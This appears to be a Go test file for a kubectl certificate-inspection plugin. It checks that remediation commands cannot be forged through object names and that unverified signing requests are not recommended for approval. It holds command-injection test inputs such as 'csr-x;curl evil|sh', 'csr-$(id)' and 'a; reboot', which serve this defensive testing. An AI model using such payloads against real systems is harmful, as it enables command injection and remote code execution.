package check

import (
	"strings"
	"testing"
	"time"

	"github.com/kubectl-certrot/kubectl-certrot/inspect"
	"github.com/kubectl-certrot/kubectl-certrot/inspect/assess"
	"github.com/kubectl-certrot/kubectl-certrot/inspect/catalog"
	"github.com/kubectl-certrot/kubectl-certrot/inspect/inspecttest"
	"github.com/kubectl-certrot/kubectl-certrot/inspect/pki"
)

// TestANameOfAnObjectForgesNoCommand: the names in files, of requests, and of owners in
// annotations are whatever who wrote them likes, and stand in next steps, in JSON, too.
func TestANameOfAnObjectForgesNoCommand(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"csr-x;curl evil|sh", "csr-x\n  next: kubectl certificate approve csr-evil", "csr-x csr-evil", "csr-$(id)", "--all", "a'b"} {
		for where, next := range map[string]string{
			"a pending request": printed(csrFinding(&inspect.Facts{Now: inspecttest.Noon}, []inspect.SigningRequest{{Object: &inspect.Object{Kind: "CertificateSigningRequest", Name: name}, Condition: inspect.Pending}}, nil, nil).Remediation),
			"annotations":       printed(annotationsOf(pki.Location{Kind: "Secret", Namespace: "a", Name: name})),
			"their namespace":   printed(annotationsOf(pki.Location{Kind: "Secret", Namespace: name, Name: "a"})),
			"an object":         printed(advise("look", pki.Location{Kind: "Secret", Namespace: "a", Name: name})),
			"a cluster's":       printed(advise("look", pki.Location{Kind: "APIService", Name: name})),
			"an operator":       printed(askOwner("look", name+"-operator")),
			"a right to get":    inspect.LiveHints("x").Unread(inspect.MayGet("secret/"+name, "a")),
			"its namespace":     inspect.LiveHints("x").Unread(inspect.MayList("secrets", name)),
			"a node":            inspect.LiveHints("x").Next("{} fix-api-int --nodes %s", name),
		} {
			if where == "an operator" && strings.Contains(name, " ") {
				continue // it is no name of a cluster operator's: no command is tried
			}
			if where == "a right to get" && name == "--all" {
				continue // behind its kind it is no option
			}
			if own := strings.ReplaceAll(strings.ReplaceAll(next, pki.Quoted(name), ""), pki.Quoted("secret/"+name), ""); own == next || strings.Contains(own, name) {
				t.Errorf("%s, %q: %s", where, name, next)
			}
		}
	}
}

// printed is all that is printed of a next step.
func printed(r assess.Remediation) string { return r.Text + "\n" + r.Command }

// TestARequestThatHidesSomethingIsNotApproved: what stands beside the request may be a decoy.
func TestARequestThatHidesSomethingIsNotApproved(t *testing.T) {
	t.Parallel()
	for bad, approves := range map[string]bool{"": true, "spec.request holds something beside the certificate request": false} {
		r := inspect.SigningRequest{Object: &inspect.Object{Kind: "CertificateSigningRequest", Name: "csr-1"}, Condition: inspect.Pending, Bad: bad}
		next := printed(csrFinding(&inspect.Facts{Now: inspecttest.Noon}, []inspect.SigningRequest{r}, nil, nil).Remediation)
		if !strings.Contains(next, "kubectl describe csr csr-1") || strings.Contains(next, "certificate approve") != approves {
			t.Errorf("bad %q: %s", bad, next)
		}
	}
}

// TestARequestToJoinIsNotApprovedByItsDescription: who has the bootstrap token describes it as a kubelet
// does. The node is asked first.
func TestARequestToJoinIsNotApprovedByItsDescription(t *testing.T) {
	t.Parallel()
	worker := inspect.Node{Name: "worker-0"}
	for requester, joins := range map[string]bool{"system:serviceaccount:openshift-machine-config-operator:node-bootstrapper": true, "system:bootstrap:abcdef": true, "system:node:worker-0": false} {
		for name, s := range map[string]inspect.Snapshot{"read": {Nodes: []inspect.Node{worker}}, "not asked": {OtherNodes: []inspect.Node{worker}}} {
			f := inspect.NewFacts(s, inspecttest.Noon, 0)
			next := printed(csrFinding(f, []inspect.SigningRequest{asksToJoin(requester, "worker-0")}, nodesByName(f), nil).Remediation)
			if !strings.Contains(next, "kubectl describe csr csr-1") || strings.Contains(next, "certificate approve") == joins || strings.Contains(next, "fix-api-int --nodes worker-0 --approve-csrs") != joins {
				t.Errorf("%s, %s: %s", requester, name, next)
			}
		}
	}
}

func asksToJoin(requester, node string) inspect.SigningRequest {
	return inspect.SigningRequest{Object: &inspect.Object{Kind: "CertificateSigningRequest", Name: "csr-1"}, Condition: inspect.Pending, Since: inspecttest.Noon.Add(-time.Minute), Signer: catalog.KubeletClientSigner, Requester: requester, Request: &pki.Request{Subject: "CN=system:node:" + node + ",O=system:nodes"}}
}

// TestANewMachineIsNoNodeYet: fix-api-int refuses it, and its description proves nothing. Its log does.
func TestANewMachineIsNoNodeYet(t *testing.T) {
	t.Parallel()
	f := inspect.NewFacts(inspect.Snapshot{Nodes: []inspect.Node{{Name: "worker-0"}}}, inspecttest.Noon, 0)
	next := printed(csrFinding(f, []inspect.SigningRequest{asksToJoin("system:bootstrap:abcdef", "worker-9")}, nodesByName(f), nil).Remediation)
	if strings.Contains(next, "fix-api-int") || !strings.Contains(next, "no Node worker-9 was read: approve it only if you add that machine now, and its kubelet tried at ") {
		t.Errorf("%s", next)
	}
}

// TestANodeOfAnOddNameHasNoCommand: its name is all of what a text around it would say.
func TestANodeOfAnOddNameHasNoCommand(t *testing.T) {
	t.Parallel()
	for _, odd := range []string{"a; reboot", "--nodes", "a b", "“", ""} {
		f := inspect.NewFacts(inspect.Snapshot{Nodes: []inspect.Node{{Name: odd}}}, inspecttest.Noon, 0)
		r := csrFinding(f, []inspect.SigningRequest{asksToJoin("system:bootstrap:abcdef", odd)}, nodesByName(f), nil).Remediation
		if next := printed(r); next != "look at who requests what: kubectl describe csr csr-1\nkubectl describe csr csr-1" && next != "look at who requests what: kubectl describe csr csr-1\n" {
			t.Errorf("%q: %s", odd, next)
		}
	}
}
